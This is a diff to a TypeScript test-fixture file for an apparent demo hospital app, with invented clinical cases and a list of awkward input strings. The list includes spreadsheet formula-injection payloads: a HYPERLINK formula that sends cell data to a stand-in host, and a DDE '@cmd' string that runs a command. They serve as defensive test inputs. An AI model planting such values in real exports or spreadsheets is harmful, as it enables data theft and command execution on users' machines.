@@ -5,7 +5,11 @@ export interface Case {
   readonly prescription: string
 }
 
-const one = (reason: string, diagnosis: string, prescription: string): Case => ({ reason, diagnosis, prescription })
+const one = (reason: string, diagnosis: string, prescription: string): Case => ({
+  reason,
+  diagnosis,
+  prescription,
+})
 
 /** The departments of the demo hospital with their everyday cases, all of them invented. */
 export const departmentCases: Readonly<Record<string, readonly Case[]>> = {
@@ -22,14 +26,22 @@ export const departmentCases: Readonly<Record<string, readonly Case[]>> = {
     one('நெஞ்சு வலி', 'Musculoskeletal chest pain', 'Ibuprofen 400 mg after food, 5 days'),
   ],
   Orthopaedics: [
-    one('Knee pain, left', 'Osteoarthritis of the knee', 'Paracetamol 650 mg SOS; physiotherapy, "quadriceps" set'),
+    one(
+      'Knee pain, left',
+      'Osteoarthritis of the knee',
+      'Paracetamol 650 mg SOS; physiotherapy, "quadriceps" set',
+    ),
     one('Fall from a bicycle', 'Fracture of the distal radius', 'Cast for 6 weeks; X-ray on day 10'),
     one('Back pain', 'Lumbar strain', 'Diclofenac gel; no lifting > 5 kg'),
     one('Frozen shoulder, follow-up', 'Adhesive capsulitis', 'Exercises, hot pack, review in a month'),
   ],
   Paediatrics: [
     one('Vaccination, 9 months', 'Healthy infant', 'MR-1 given, next at 16 months'),
-    one('Loose stools since morning', 'Acute gastroenteritis', 'ORS after each stool, zinc 20 mg for 14 days'),
+    one(
+      'Loose stools since morning',
+      'Acute gastroenteritis',
+      'ORS after each stool, zinc 20 mg for 14 days',
+    ),
     one('Cough at night', 'Childhood asthma', 'Salbutamol inhaler with spacer, 2 puffs SOS'),
     one('জ্বর ও সর্দি', 'Upper respiratory infection', 'Paracetamol syrup 5 ml, 1-1-1'),
   ],
@@ -88,7 +100,7 @@ export const awkwardTexts: readonly string[] = [
   '=HYPERLINK("http://example.test/?x="&A1,"click")',
   '+91 98450 12345 (call before visit)',
   '-5 kg in two months',
-  '@cmd|\' /C calc\'!A0',
+  "@cmd|' /C calc'!A0",
   'first line\nsecond line\r\nthird line',
   'says "it hurts, here", then laughs',
   ',;|\t',
